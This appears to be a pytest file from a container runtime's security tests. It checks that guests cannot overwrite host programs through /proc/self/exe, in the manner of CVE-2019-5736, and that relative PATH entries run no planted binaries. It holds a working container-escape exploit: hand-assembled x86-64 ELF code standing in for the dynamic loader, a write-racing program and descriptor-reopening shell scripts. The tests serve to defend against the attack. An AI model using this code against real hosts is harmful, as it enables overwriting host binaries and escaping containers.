"""The host's programs that start a guest: it neither overwrites them nor brings its own in their place."""

from __future__ import annotations

import os
import re
import shutil
import struct
from pathlib import Path
from typing import Any

import pytest

from tests.attacks_host.protection import protects
from tests.support.containers import Container, is_roots, make_container, starter
from tests.support.hostile import give_to_root
from tests.support.tools import find_program, own, run, unavailable

# Wherever a shell's own descriptors lead: opened for writing, never written to. A program that runs is busy.
REOPEN = """\
for number in 3 4 5 6 7 8 9; do
    [ -e /proc/$$/fd/$number ] || continue
    attempts=100
    while [ $attempts -gt 0 ]; do
        attempts=$((attempts - 1))
        found=$( (exec 9>>/proc/$$/fd/$number && echo overwrites) 2>&1)
        case $found in *busy*) busybox sleep 0.05 ;; *) attempts=0 ;; esac
    done
    echo "${found##*: } $(busybox readlink /proc/$$/fd/$number)"
done
"""

# The same for the program that a parent runs. Its end is the guest's end: the other program tries all the time.
REOPEN_PARENT = """\
#!/bin/busybox sh
exec 3</proc/$PPID/exe || exit
busybox readlink /proc/$$/fd/3 >/tmp/exe
/racer & first=$!
/racer & second=$!
busybox sleep 0.2
kill -9 $PPID
busybox sleep 0.5
kill -9 $first $second
"""


def assembled(code: str, *texts: bytes) -> bytes:
    """Return a program for x86-64 from machine code in hexadecimal, where `{0}` is the distance to the first text."""
    numbers = [int(number) for number in re.findall(r"\{(\d)\}", code)]
    program = bytes.fromhex(re.sub(r"\{\d\}", "aaaaaaaa", code))
    starts = [len(program) + sum(map(len, texts[:number])) for number in range(len(texts))]
    for number in numbers:
        place = program.index(b"\xaa" * 4)
        program = program.replace(b"\xaa" * 4, struct.pack("<i", starts[number] - place - 4), 1)
    content = program + b"".join(texts)
    base, start, size = 0x10000000, 64 + 56, 64 + 56 + len(content)
    header = struct.pack("<16sHHIQQQIHHHHHH", b"\x7fELF\2\1\1", 2, 62, 1, base + start, 64, 0, 0, 64, 56, 1, 64, 0, 0)
    return header + struct.pack("<IIQQQQQQ", 1, 5, 0, base, base, size, size, 4096) + content


def loader() -> bytes:
    """Return a program that opens /proc/self/exe and executes `busybox sh /reopen`.

    In place of the dynamic loader it is started with any program of the host that is linked dynamically.
    """
    open_exe = "488d3d{0} 31f6 b802000000 0f05"
    execute = "6a00 488d05{1} 50 488d05{2} 50 4889e6 488d3d{3} 31d2 b83b000000 0f05 0f0b"
    return assembled(open_exe + execute, b"/proc/self/exe\0", b"/reopen\0", b"sh\0", b"/bin/busybox\0")


def racer() -> bytes:
    """Return a program that opens descriptor 3 for writing until that works, and then makes the file /tmp/won."""
    try_again = "488d3d{0} be01000000 b802000000 0f05 85c0 78e9"
    won = "488d3d{1} be41000000 baa4010000 b802000000 0f05 31ff b83c000000 0f05"
    return assembled(try_again + won, b"/proc/self/fd/3\0", b"/tmp/won\0")


def container_of(runtime: str, directory: Path) -> Container:
    """Make a container that belongs to whom the runtime is for."""
    starter(runtime)
    target = make_container(directory)
    if is_roots(runtime):
        give_to_root(target)
    return target


# How start.sh comes to execute the image's script: as env, as the command, as process 1, and behind unshare(1).
STARTS = {
    "env": ("usr/bin/env", ["sh"]),
    "command": ("app/command", ["/app/command"]),
    "init": ("app/init", ["/app/init"]),
    "without a shell": ("app/command", ["--workdir", "/tmp", "--", "/app/command"]),
}


def add_attack(target: Container, script: str, line: str) -> None:
    """Add to an image without env a script with that first line, and all that the attack needs."""
    (target.rootfs / "usr/bin/env").unlink()
    (target.rootfs / "tmp").chmod(0o777)
    write_program(target.rootfs / script, line.encode())
    write_program(target.rootfs / "reopen", REOPEN.encode())
    for name in ("lib64/ld-linux-x86-64.so.2", "lib/ld-linux-x86-64.so.2"):
        write_program(target.rootfs / name, loader())
    write_program(target.rootfs / "racer", racer())
    write_program(target.rootfs / "reopen-parent", REOPEN_PARENT.encode())
    # What a program of the host takes for its arguments, if it is called like that.
    for name in ("-i", "x"):
        write_program(target.rootfs / name, b"#!/reopen-parent\n")


@pytest.mark.parametrize("line", ["#!/proc/self/exe\n", "#!/proc/self/exe -\n"], ids=["alone", "with an argument"])
@pytest.mark.parametrize("start", STARTS)
@protects("userns", "chroot")
def test_host_programs_can_t_be_overwritten_by_proc_self_exe(
    place: Path, runtime: str, user: str, line: str, start: str
) -> None:
    """As CVE-2019-5736: an image's script has the program that executes it as its interpreter."""
    if os.uname().machine != "x86_64":
        unavailable("the loader of this test is for x86-64")
    target = container_of(runtime, place / "container")
    overwrite_by_proc_self_exe(target, runtime, user, line, start, starter(runtime))


@pytest.mark.parametrize("start", STARTS)
@protects("userns")
def test_programs_that_the_user_owns_can_t_be_overwritten_either(
    place: Path, runtime: str, user: str, start: str
) -> None:
    if os.uname().machine != "x86_64":
        unavailable("the loader of this test is for x86-64")
    target = container_of(runtime, place / "container")
    options = starter(runtime)
    (place / "own").mkdir()
    for name in ("chroot", "unshare", "env", "setpriv"):
        own(Path(shutil.copy(find_program(name) or "", place / "own" / name)))
    options["env"] = {**options["env"], "PATH": f"{place / 'own'}:{options['env']['PATH']}"}
    overwrite_by_proc_self_exe(target, runtime, user, "#!/proc/self/exe\n", start, options)


def overwrite_by_proc_self_exe(
    target: Container, runtime: str, user: str, line: str, start: str, options: dict[str, Any]
) -> None:
    """Start a script with that first line, and make sure that it has opened no program of the host for writing."""
    script, words = STARTS[start]
    add_attack(target, script, line)
    if start == "without a shell":
        (target.rootfs / "bin/sh").unlink()
    # Who is killed at once may win only in one of several attempts.
    command = ("--user", user, *words, *["/x"] * 3)
    done = [target.run(runtime, *command, **options) for _ in range(4)][-1]
    opened = [text.partition(" ")[2] for text in done.stdout.decode().splitlines() if text.startswith("overwrites")]
    if (target.rootfs / "tmp/won").exists():
        opened.append((target.rootfs / "tmp/exe").read_text().strip())
    inside = {str(file.relative_to(target.rootfs)) for file in target.rootfs.rglob("*")}
    # A copy that ends with the namespace is nobody else's.
    assert [path for path in opened if path.lstrip("/") not in inside and os.path.exists(path)] == []


@protects("proot", "userns", "chroot", users=())
def test_programs_in_relative_directories_of_path_are_not_run(place: Path, runtime: str) -> None:
    """The issue's case: /run/mount of the image, since start.sh was in that directory with an empty word in PATH."""
    target = container_of(runtime, place / "container")
    (place / "open").mkdir()
    (place / "open").chmod(0o777)
    program = f'#!{find_sh()}\necho "$0 $*" >>{place}/open/canary\nexit 1\n'.encode()
    names = "mount cp mkdir readlink unshare setpriv chroot env sh uname ls rm mv cat id stat mktemp ln chmod touch tr"
    for directory in (place / "here", *(target.rootfs / name for name in ("", "run", "dev", "etc", "proc", "x"))):
        for name in [*names.split(), *(f"bin/{name}" for name in names.split())]:
            if directory != target.rootfs or "/" not in name:
                write_program(directory / name, program)
    options = starter(runtime)
    path = options["env"]["PATH"]
    for words in (f":{path}", f".:{path}", f"bin::{path}:", f"./bin:../here:{path}"):
        options["env"] = {**options["env"], "PATH": words}
        target.run(runtime, "--workdir", "/x", "/bin/true", **{**options, "cwd": place / "here"})
    assert not (place / "open/canary").exists(), (place / "open/canary").read_text()


def find_sh() -> str:
    """Return the shell of the host, by its path."""
    return os.path.realpath("/bin/sh")


def write_program(path: Path, content: bytes) -> None:
    """Write an executable file, and its parent directories, in place of a link or a file."""
    path.parent.mkdir(parents=True, exist_ok=True)
    path.unlink(missing_ok=True)
    path.write_bytes(content)
    path.chmod(0o755)


def test_the_loader_reaches_the_program_that_executes_it(place: Path) -> None:
    """In a bare chroot the attack works: what the test above sees is the protection."""
    if os.uname().machine != "x86_64":
        unavailable("the loader of this test is for x86-64")
    target = container_of("chroot", place / "container")
    (target.rootfs / "reopen").write_text(REOPEN)
    write_program(target.rootfs / "lib64/ld-linux-x86-64.so.2", loader())
    write_program(target.rootfs / "app/command", b"#!/proc/self/exe\n")
    # A program that is open for writing can't be executed: other tests need the machine's own.
    program = Path(shutil.copy(find_program("chroot") or "", place / "chroot"))
    script = 'mount -t proc proc "$0/proc" && "$1" "$0" /app/command'
    shown = run("unshare", "--mount", "--pid", "--fork", "sh", "-c", script, target.rootfs, program)
    assert shown == f"overwrites {program}\n"
